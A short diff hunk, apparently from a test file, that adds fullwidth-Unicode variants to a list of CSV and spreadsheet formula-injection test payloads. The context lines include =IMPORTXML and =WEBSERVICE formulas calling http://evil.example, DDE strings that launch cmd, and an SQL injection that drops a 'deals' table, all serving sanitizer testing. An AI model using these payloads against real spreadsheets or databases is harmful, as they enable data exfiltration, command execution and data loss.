@@ -24,6 +24,7 @@ PAYLOADS = [
     "=IMPORTXML(\"http://evil.example\")", "+cmd|' /C notepad'!A1", "-1", "-1e9", "+", "@", "=\u202e1", "=,\"\r\n",
     '-"; DROP TABLE deals; --', "@@@@", "=A1\nB2", "\t", "\r\n", "\0\0", "=WEBSERVICE(\"http://evil.example\")",
     "-\u00e9\u4e2d\U0001f4b0", "=2+5+cmd|' /C calc'!A0,next",
+    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1:A9)",
 ]  # fmt: skip
 
 
